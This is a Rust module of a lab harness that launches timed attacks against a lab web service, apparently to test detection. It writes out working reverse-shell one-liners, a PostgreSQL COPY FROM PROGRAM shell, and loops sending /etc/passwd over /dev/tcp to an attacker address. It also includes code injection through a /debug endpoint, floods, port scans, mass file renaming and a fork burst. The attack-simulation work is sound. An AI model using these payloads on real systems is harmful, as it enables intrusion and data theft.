//! Attacks, each bounded in time, with traffic inside the lab only.
//!
//! All but [`Attack::CopyShell`], [`Attack::ScanIn`] and [`Attack::Flood`] enter through the hole
//! of [`crate::Load::App`], so they belong to a service that was learned.

use std::{
    fmt,
    net::Ipv4Addr,
    str::FromStr,
    thread,
    time::{Duration, SystemTime, UNIX_EPOCH},
};

use crate::{
    error::{Error, Result},
    lab::{Lab, User},
    load::{APP_PORT, Postgres, tree},
    network::Site,
    process::{run, wait_until},
    recorder::{Recorder, Transcript},
};

/// What the reverse shells are told to do: leak files until nobody takes them any more.
const SHELL_TEXT: &str =
    "id\nuname -a\nwhile cat /etc/passwd /etc/services; do sleep 0.05; done\nexit\n";
const SHELL_PORT: u16 = 4444;
const DROP_PORT: u16 = 4443;
const NEXT_PORT: u16 = 4445;
/// 200 MB and a little more.
const EXFILTRATED_MIB: u32 = 200;
const SCANNED_PORTS: u32 = 2_000;
const FORKS: u32 = 500;
/// For what ends by itself; far more than it takes.
const END_LIMIT: Duration = Duration::from_secs(60);

/// The kinds of attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Attack {
    /// `COPY ... FROM PROGRAM` in PostgreSQL opens a shell outward.
    CopyShell,
    /// A shell under the web service connects out.
    ReverseShell,
    /// A shell copied to /tmp connects out from there.
    DroppedShell,
    /// A shell that runs from memory connects out.
    MemoryShell,
    /// A shell under the web service leaks to one address of the attacker's, and once that is cut to the
    /// next. What is told is the second's.
    NextAddress,
    /// 200 MiB from the web service to a new peer.
    Exfiltrate,
    /// A UDP flood from the attacker at the service's closed ports.
    Flood,
    /// A TCP port scan from the attacker at the service.
    ScanIn,
    /// A TCP port scan from the web service at the clients.
    ScanOut,
    /// Thousands of files rewritten and renamed.
    Rename,
    /// 500 forks in a burst.
    Forks,
}

/// How code gets to run in the web service.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Hash)]
pub enum Via {
    /// The service starts a new `python3` for it.
    #[default]
    Child,
    /// In a thread of the service itself: no new program, no new process.
    Thread,
}

/// What an attack did.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Outcome {
    /// Just before the first hostile act and after the last one that was waited for (Unix ns).
    pub started_ns: i64,
    pub ended_ns: i64,
    /// The attacker's end, where there is a connection.
    pub transcript: Option<Transcript>,
}

impl Attack {
    pub const ALL: [Self; 11] = [
        Self::CopyShell,
        Self::ReverseShell,
        Self::DroppedShell,
        Self::MemoryShell,
        Self::NextAddress,
        Self::Exfiltrate,
        Self::Flood,
        Self::ScanIn,
        Self::ScanOut,
        Self::Rename,
        Self::Forks,
    ];

    pub fn name(self) -> &'static str {
        match self {
            Self::CopyShell => "copy-shell",
            Self::ReverseShell => "reverse-shell",
            Self::DroppedShell => "dropped-shell",
            Self::MemoryShell => "memory-shell",
            Self::NextAddress => "next-address",
            Self::Exfiltrate => "exfiltrate",
            Self::Flood => "flood",
            Self::ScanIn => "scan-in",
            Self::ScanOut => "scan-out",
            Self::Rename => "rename",
            Self::Forks => "forks",
        }
    }

    /// Nothing of the host's has a part in it: packets come, from addresses that can be forged.
    pub fn comes_from_outside(self) -> bool {
        matches!(self, Self::Flood | Self::ScanIn)
    }

    /// It is denied once before what is told of it.
    pub fn comes_back(self) -> bool {
        self == Self::NextAddress
    }

    /// Attacks once. `limit` bounds what has no end of its own: shells and the flood.
    pub fn run(self, lab: &Lab, via: Via, limit: Duration) -> Result<Outcome> {
        match self {
            Self::CopyShell => copy_shell(lab, limit),
            Self::ReverseShell => shell_from(lab, &reverse_shell(via), limit),
            Self::DroppedShell => {
                let code = include_str!("python/dropped_shell.py")
                    .replace("@FOLDER@", &lab.dropped().display().to_string());
                shell_from(lab, &carried(via, &to_attacker(&code, SHELL_PORT)), limit)
            }
            Self::MemoryShell => {
                let code = to_attacker(include_str!("python/memory_shell.py"), SHELL_PORT);
                shell_from(lab, &carried(via, &code), limit)
            }
            Self::NextAddress => next_address(lab, limit),
            Self::Exfiltrate => {
                let recorder = Recorder::listen(lab, DROP_PORT, END_LIMIT, "")?;
                let started_ns = now_ns();
                let code = to_attacker(include_str!("python/exfiltrate.py"), DROP_PORT)
                    .replace("@MEBIBYTES@", &EXFILTRATED_MIB.to_string());
                inject(lab, &carried(via, &code))?;
                finish(started_ns, recorder)
            }
            Self::Flood => {
                let code = include_str!("python/flood.py")
                    .replace("@PEER@", &Site::Service.ipv4().to_string())
                    .replace("@SECONDS@", &limit.as_secs_f64().to_string());
                from_attacker(lab, &code)
            }
            Self::ScanIn => from_attacker(lab, &scan(Site::Service)),
            Self::ScanOut => wait_inside(lab, via, &scan(Site::Clients)),
            Self::Rename => {
                let tree = tree(lab).display().to_string();
                let code = include_str!("python/rename.py").replace("@TREE@", &tree);
                wait_inside(lab, via, &code)
            }
            Self::Forks => {
                let count = FORKS.to_string();
                let code = include_str!("python/forks.py").replace("@COUNT@", &count);
                wait_inside(lab, via, &code)
            }
        }
    }
}

impl fmt::Display for Attack {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

impl FromStr for Attack {
    type Err = String;

    fn from_str(text: &str) -> std::result::Result<Self, String> {
        let names = || Self::ALL.map(Self::name).join(", ");
        Self::ALL
            .into_iter()
            .find(|attack| attack.name() == text)
            .ok_or_else(|| format!("no attack `{text}`; there are {}", names()))
    }
}

/// Unix nanoseconds.
pub fn now_ns() -> i64 {
    let since = SystemTime::now().duration_since(UNIX_EPOCH).unwrap_or_default();
    i64::try_from(since.as_nanos()).unwrap_or(i64::MAX)
}

fn finish(started_ns: i64, recorder: Recorder) -> Result<Outcome> {
    let transcript = recorder.finish()?;
    Ok(Outcome { started_ns, ended_ns: transcript.ended_ns, transcript: Some(transcript) })
}

/// Injects code that opens a shell to the attacker, and records what comes.
fn shell_from(lab: &Lab, code: &str, limit: Duration) -> Result<Outcome> {
    let recorder = Recorder::listen(lab, SHELL_PORT, limit, SHELL_TEXT)?;
    let started_ns = now_ns();
    inject(lab, code)?;
    finish(started_ns, recorder)
}

/// One process calls both: the second while its entry for the first stands, which it waits for. The service
/// starts it itself: what starts it for the service is denied as a whole.
fn next_address(lab: &Lab, limit: Duration) -> Result<Outcome> {
    let next = Ipv4Addr::from_bits(Site::Attacker.ipv4().to_bits() + 1);
    let mut address = lab.command(Site::Attacker, "attacker", &User::ROOT, "/bin/sh")?;
    address.args(["-c", &format!("ip addr add {next}/24 dev eth0 2>/dev/null; true")]);
    run(address)?;
    let leak = |peer: Ipv4Addr, port| {
        format!("while cat /etc/passwd /etc/services; do sleep .05; done > /dev/tcp/{peer}/{port}")
    };
    let shell = format!("{}; {}", leak(Site::Attacker.ipv4(), SHELL_PORT), leak(next, NEXT_PORT));
    let code = format!("import subprocess\nsubprocess.run(['bash', '-c', {shell:?}])\n");
    let first = Recorder::listen(lab, SHELL_PORT, limit, "")?;
    let second = Recorder::listen(lab, NEXT_PORT, 2 * limit, "")?;
    let started_ns = now_ns();
    inject(lab, &code)?;
    first.finish()?;
    finish(started_ns, second)
}

fn to_attacker(code: &str, port: u16) -> String {
    code.replace("@PEER@", &Site::Attacker.ipv4().to_string()).replace("@PORT@", &port.to_string())
}

fn shell_command() -> String {
    format!("bash -i >& /dev/tcp/{}/{SHELL_PORT} 0>&1", Site::Attacker.ipv4())
}

/// The superuser's SQL comes from the clients' site, as it would through an application.
fn copy_shell(lab: &Lab, limit: Duration) -> Result<Outcome> {
    Postgres::sql(lab, "CREATE TABLE IF NOT EXISTS loot (line text)")?;
    let recorder = Recorder::listen(lab, SHELL_PORT, limit, SHELL_TEXT)?;
    let statement = format!("COPY loot FROM PROGRAM 'bash -c \"{}\"'", shell_command());
    let started_ns = now_ns();
    thread::scope(|scope| {
        // COPY returns with the shell, and fails when that is cut: neither is of interest.
        scope.spawn(move || Postgres::sql(lab, &statement));
        let outcome = finish(started_ns, recorder);
        // The recorder is gone, so the shell ends; a shell that can't notice is ended here.
        let backends = "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE query LIKE \
                        'COPY loot%'";
        let _ = Postgres::sql(lab, backends);
        outcome
    })
}

fn reverse_shell(via: Via) -> String {
    match via {
        Via::Child => {
            let shell = shell_command();
            format!("import subprocess\nsubprocess.run(['bash', '-c', {shell:?}])\n")
        }
        // The classic one-liner: the service itself connects and gives the socket to a shell.
        Via::Thread => format!(
            "import socket, subprocess\n\
             s = socket.create_connection(('{}', {SHELL_PORT}))\n\
             subprocess.run(['/bin/sh'], stdin=s, stdout=s, stderr=s)\n",
            Site::Attacker.ipv4()
        ),
    }
}

fn scan(target: Site) -> String {
    include_str!("python/scan.py")
        .replace("@PEER@", &target.ipv4().to_string())
        .replace("@PORTS@", &SCANNED_PORTS.to_string())
}

/// Python that runs `code` as `via` says.
fn carried(via: Via, code: &str) -> String {
    match via {
        Via::Thread => code.to_owned(),
        Via::Child => {
            format!("import subprocess\nsubprocess.run(['/usr/bin/python3', '-c', {code:?}])\n")
        }
    }
}

/// Gives the web service Python to run, from the attacker's site.
fn inject(lab: &Lab, code: &str) -> Result<()> {
    let mut curl = lab.command(Site::Attacker, "attacker", &User::ROOT, "/usr/bin/curl")?;
    let address = format!("http://{}:{APP_PORT}/debug", Site::Service.ipv4());
    curl.args(["-sSf", "-m", "30", "--data-binary", code, &address]);
    run(curl).map(drop)
}

/// Runs `code` inside the service and waits until it is through, told by a marker file.
fn wait_inside(lab: &Lab, via: Via, code: &str) -> Result<Outcome> {
    let user = User::named("www-data")?;
    let marker = lab.subdirectory("app", &user)?.join(format!("done-{}", now_ns()));
    let code = format!("{code}open({:?}, 'w').close()\n", marker.display().to_string());
    let started_ns = now_ns();
    inject(lab, &carried(via, &code))?;
    if wait_until(END_LIMIT, || marker.exists()) {
        let _ = std::fs::remove_file(&marker);
        return Ok(Outcome { started_ns, ended_ns: now_ns(), transcript: None });
    }
    let (what, seconds) = ("the attack's end".into(), END_LIMIT.as_secs());
    Err(Error::NotReady { what, seconds, detail: String::new() })
}

fn from_attacker(lab: &Lab, code: &str) -> Result<Outcome> {
    let mut command = lab.command(Site::Attacker, "attacker", &User::ROOT, "/usr/bin/python3")?;
    command.args(["-c", code]);
    let started_ns = now_ns();
    run(command)?;
    Ok(Outcome { started_ns, ended_ns: now_ns(), transcript: None })
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;

    #[test]
    fn names_read_back() {
        for attack in Attack::ALL {
            assert_eq!(attack.name().parse::<Attack>().unwrap(), attack);
        }
        assert!("ping-of-death".parse::<Attack>().unwrap_err().contains("copy-shell"));
    }

    #[test]
    fn carried_code_is_one_quoted_argument() {
        let code = carried(Via::Child, "print('a \\ \"b\"')\n");
        assert_eq!(code.lines().count(), 2);
    }
}
